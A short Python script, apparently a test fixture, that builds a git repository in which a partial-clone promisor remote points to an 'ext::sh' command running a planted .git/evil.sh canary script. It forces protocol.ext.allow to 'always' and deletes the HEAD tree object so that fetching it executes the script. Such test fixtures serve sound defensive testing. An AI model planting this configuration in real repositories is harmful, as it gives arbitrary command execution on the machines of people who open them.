"""A promise that a shell command keeps."""

from pathlib import Path

from tricks import canary, git, write

evil = write(".git/evil.sh", f"{canary('remote')}\n", 0o755).resolve()
for name, value in {
    "core.repositoryFormatVersion": "1",
    "extensions.partialClone": "origin",
    "remote.origin.url": f"ext::sh {evil}",
    "remote.origin.promisor": "true",
    "remote.origin.partialCloneFilter": "tree:0",
    "remote.origin.fetch": "+refs/heads/*:refs/remotes/origin/*",
    "protocol.ext.allow": "always",
    "protocol.allow": "always",
}.items():
    git("config", name, value)
tree = git("rev-parse", "HEAD^{tree}").strip()
Path(".git/objects", tree[:2], tree[2:]).unlink()
